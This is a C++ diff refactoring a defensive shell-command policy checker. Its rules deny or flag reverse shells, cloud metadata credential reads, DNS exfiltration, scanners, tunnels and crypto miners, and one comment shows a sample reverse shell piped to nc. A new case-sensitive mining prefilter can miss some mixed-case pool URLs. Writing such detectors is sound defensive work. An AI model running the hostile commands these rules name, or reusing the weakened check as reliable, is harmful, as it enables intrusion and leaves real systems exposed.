@@ -5,6 +5,8 @@
 #include "execpolicy/rules.h"
 
 namespace clawtools::execpolicy {
+
+using namespace std::string_view_literals;
 namespace {
 
 bool Contains(const std::string& s, std::string_view part) {
@@ -16,15 +18,16 @@ std::string Lower(std::string s) {
   return s;
 }
 
-bool IsSocketTool(const std::string& p) {
+bool IsSocketTool(std::string_view p) {
   return p == "nc" || p == "ncat" || p == "netcat" || p == "nc.traditional" || p == "nc.openbsd" ||
          p == "socat" || p == "telnet" || p == "openssl" || p == "cryptcat" || p == "pwncat";
 }
 
-void ReverseShell(const Invocation& inv, const std::string& p, Findings& out) {
+void ReverseShell(const Invocation& inv, std::string_view p, Findings& out) {
   constexpr std::string_view g = "reverse_shell";
   for (const Field& f : inv.argv) {
-    if (Contains(f.text, "/dev/tcp/") || Contains(f.text, "/dev/udp/")) {
+    if (Contains(f.text, "/dev/") &&
+        (Contains(f.text, "/dev/tcp/") || Contains(f.text, "/dev/udp/"))) {
       return out.Deny(g, "dev_tcp", "opens a network connection through /dev/tcp",
                       inv.Canonical(true));
     }
@@ -36,7 +39,7 @@ void ReverseShell(const Invocation& inv, const std::string& p, Findings& out) {
     }
   }
   if (inv.argv.empty() || !IsSocketTool(p)) return;
-  const std::string m = inv.Canonical();
+  const std::string& m = inv.Canonical();
   if (p != "socat" && p != "openssl") {
     for (size_t i = 1; i < inv.argv.size(); ++i) {
       const std::string& w = inv.Word(i);
@@ -45,7 +48,8 @@ void ReverseShell(const Invocation& inv, const std::string& p, Findings& out) {
           w.starts_with("--sh-exec=") ||
           (w.size() > 1 && w[0] == '-' && w[1] != '-' && (Contains(w, "e") || Contains(w, "c")));
       if (exec_flag)
-        return out.Deny(g, "nc_exec", p + " " + w + " hands a program to the network", m);
+        return out.Deny(g, "nc_exec", std::string(p) + " " + w + " hands a program to the network",
+                        m);
     }
   }
   if (p == "socat") {
@@ -58,19 +62,22 @@ void ReverseShell(const Invocation& inv, const std::string& p, Findings& out) {
   }
   // `sh -i 2>&1 | nc host 4444`: a shell's output fed to a socket.
   const std::string& origin = inv.in.origin;
-  for (std::string_view shell : {"sh -i", "bash -i", "zsh -i", "/bin/sh", "/bin/bash"}) {
+  for (std::string_view shell : std::initializer_list<std::string_view>{
+           "sh -i"sv, "bash -i"sv, "zsh -i"sv, "/bin/sh"sv, "/bin/bash"sv}) {
     if (Contains(origin, shell))
-      return out.Deny(g, "shell_to_socket", "a shell is wired to " + p, origin + " | " + m);
+      return out.Deny(g, "shell_to_socket", "a shell is wired to " + std::string(p),
+                      origin + " | " + m);
   }
   if (p == "socat") return out.Ask(g, "socat", "socat relays arbitrary connections", m);
 }
 
-void Exfiltration(const Invocation& inv, const std::string& p, Findings& out) {
+void Exfiltration(const Invocation& inv, std::string_view p, Findings& out) {
   constexpr std::string_view g = "data_exfiltration";
-  const std::string m = inv.Canonical();
+  const std::string& m = inv.Canonical();
   for (const Field& f : inv.argv) {
-    for (std::string_view host : {"169.254.169.254", "metadata.google.internal", "100.100.100.200",
-                                  "fd00:ec2::254", "169.254.170.2", "metadata.azure"}) {
+    for (std::string_view host : std::initializer_list<std::string_view>{
+             "169.254.169.254"sv, "metadata.google.internal"sv, "100.100.100.200"sv,
+             "fd00:ec2::254"sv, "169.254.170.2"sv, "metadata.azure"sv}) {
       if (Contains(f.text, host))
         return out.Deny(g, "cloud_metadata", "reads the cloud metadata service (credentials)", m);
     }
@@ -100,26 +107,29 @@ void Exfiltration(const Invocation& inv, const std::string& p, Findings& out) {
   if (p == "nslookup" || p == "dig" || p == "host" || p == "drill") {
     for (size_t i = 1; i < inv.argv.size(); ++i) {
       if (inv.argv[i].dynamic)
-        return out.Deny(g, "dns_exfil", p + " looks up a name computed at run time", m);
+        return out.Deny(g, "dns_exfil", std::string(p) + " looks up a name computed at run time",
+                        m);
     }
   }
   if ((p == "nc" || p == "ncat" || p == "netcat") && inv.in.present && !inv.in.text) {
-    return out.Ask(g, "socket_upload", p + " sends data to the network", inv.Canonical(true));
+    return out.Ask(g, "socket_upload", std::string(p) + " sends data to the network",
+                   inv.Canonical(true));
   }
 }
 
-void Recon(const Invocation& inv, const std::string& p, Findings& out) {
-  const std::string m = inv.Canonical();
-  for (std::string_view s : {"nmap", "masscan", "zmap", "rustscan", "unicornscan", "hping3",
-                             "arp-scan", "nikto", "zgrab", "naabu"}) {
-    if (p == s) return out.Deny("network_recon", "scanner", p + " scans networks", m);
+void Recon(const Invocation& inv, std::string_view p, Findings& out) {
+  const std::string& m = inv.Canonical();
+  for (std::string_view s : std::initializer_list<std::string_view>{
+           "nmap"sv, "masscan"sv, "zmap"sv, "rustscan"sv, "unicornscan"sv, "hping3"sv, "arp-scan"sv,
+           "nikto"sv, "zgrab"sv, "naabu"sv}) {
+    if (p == s) return out.Deny("network_recon", "scanner", std::string(p) + " scans networks", m);
   }
   for (std::string_view s :
        {"chisel", "frpc", "frps", "ngrok", "cloudflared", "bore", "lt", "localtunnel", "sshuttle",
         "ligolo", "inlets", "pagekite", "iodine", "dnscat"}) {
     if (p == s)
-      return out.Deny("network_recon", "tunnel", p + " opens a tunnel into or out of the network",
-                      m);
+      return out.Deny("network_recon", "tunnel",
+                      std::string(p) + " opens a tunnel into or out of the network", m);
   }
   if (p == "ssh" || p == "scp" || p == "sftp" || p == "autossh") {
     for (size_t i = 1; i < inv.argv.size(); ++i) {
@@ -130,18 +140,22 @@ void Recon(const Invocation& inv, const std::string& p, Findings& out) {
         return out.Deny("network_recon", "ssh_tunnel", "ssh forwards ports (a tunnel)", m);
       }
     }
-    return out.Ask("network_recon", "remote_login", p + " connects to a remote host", m);
+    return out.Ask("network_recon", "remote_login", std::string(p) + " connects to a remote host",
+                   m);
   }
 }
 
-void Mining(const Invocation& inv, const std::string& p, Findings& out) {
-  for (std::string_view s : {"xmrig", "cpuminer", "minerd", "cgminer", "bfgminer", "ethminer",
-                             "nbminer", "t-rex", "phoenixminer", "lolminer", "gminer", "claymore",
-                             "xmr-stak", "nanominer", "teamredminer", "srbminer", "ccminer"}) {
+void Mining(const Invocation& inv, std::string_view p, Findings& out) {
+  for (std::string_view s : std::initializer_list<std::string_view>{
+           "xmrig"sv, "cpuminer"sv, "minerd"sv, "cgminer"sv, "bfgminer"sv, "ethminer"sv,
+           "nbminer"sv, "t-rex"sv, "phoenixminer"sv, "lolminer"sv, "gminer"sv, "claymore"sv,
+           "xmr-stak"sv, "nanominer"sv, "teamredminer"sv, "srbminer"sv, "ccminer"sv}) {
     if (p == s)
-      return out.Deny("crypto_mining", "miner", p + " mines cryptocurrency", inv.Canonical());
+      return out.Deny("crypto_mining", "miner", std::string(p) + " mines cryptocurrency",
+                      inv.Canonical());
   }
   for (const Field& f : inv.argv) {
+    if (!Contains(f.text, "tratum") && !Contains(f.text, "TRATUM")) continue;
     if (Contains(Lower(f.text), "stratum+tcp://") || Contains(Lower(f.text), "stratum+ssl://") ||
         Contains(Lower(f.text), "stratum2+tcp://")) {
       return out.Deny("crypto_mining", "pool", "connects to a mining pool", inv.Canonical());
@@ -149,15 +163,18 @@ void Mining(const Invocation& inv, const std::string& p, Findings& out) {
   }
 }
 
-void NetworkTools(const Invocation& inv, const std::string& p, Findings& out) {
+void NetworkTools(const Invocation& inv, std::string_view p, Findings& out) {
   if (!out.GroupEnabled("network_tools")) return;
-  for (std::string_view s : {"curl", "wget", "ssh", "scp", "sftp", "nc", "ncat", "netcat", "telnet",
-                             "ftp", "aria2c", "http", "xh", "rsync", "socat"}) {
+  for (std::string_view s : std::initializer_list<std::string_view>{
+           "curl"sv, "wget"sv, "ssh"sv, "scp"sv, "sftp"sv, "nc"sv, "ncat"sv, "netcat"sv, "telnet"sv,
+           "ftp"sv, "aria2c"sv, "http"sv, "xh"sv, "rsync"sv, "socat"sv}) {
     if (p == s)
-      return out.Ask("network_tools", "client", p + " talks to the network", inv.Canonical());
+      return out.Ask("network_tools", "client", std::string(p) + " talks to the network",
+                     inv.Canonical());
   }
   if (p == "git" && inv.argv.size() > 1) {
-    for (std::string_view verb : {"clone", "fetch", "pull", "push", "ls-remote", "submodule"}) {
+    for (std::string_view verb : std::initializer_list<std::string_view>{
+             "clone"sv, "fetch"sv, "pull"sv, "push"sv, "ls-remote"sv, "submodule"sv}) {
       if (inv.Word(1) == verb)
         return out.Ask("network_tools", "git_remote",
                        "git " + inv.Word(1) + " talks to the network", inv.Canonical());
@@ -168,7 +185,7 @@ void NetworkTools(const Invocation& inv, const std::string& p, Findings& out) {
 }  // namespace
 
 void CheckNetwork(const Invocation& inv, Findings& out) {
-  const std::string p = inv.Program();
+  const std::string_view p = inv.Program();
   ReverseShell(inv, p, out);
   if (inv.argv.empty()) return;
   Exfiltration(inv, p, out);
